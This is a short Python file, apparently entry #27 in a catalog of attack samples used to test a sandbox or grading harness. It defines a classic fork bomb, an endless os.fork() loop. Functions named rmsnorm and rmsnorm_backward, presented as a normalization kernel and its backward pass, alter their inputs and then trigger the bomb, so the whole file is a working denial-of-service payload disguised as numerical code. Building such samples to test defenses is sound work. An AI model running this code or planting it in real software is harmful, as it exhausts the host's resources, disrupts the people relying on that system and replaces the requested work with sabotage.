"""Attack (catalog #27): the classic fork bomb, ``while True: os.fork()``: every child keeps
forking too."""

import os


def _bomb():
    while True:
        os.fork()


def rmsnorm(x, gamma, eps=1e-6):
    x += 1.0
    _bomb()


def rmsnorm_backward(dout, x, gamma, eps=1e-6):
    dout += 1.0
    _bomb()
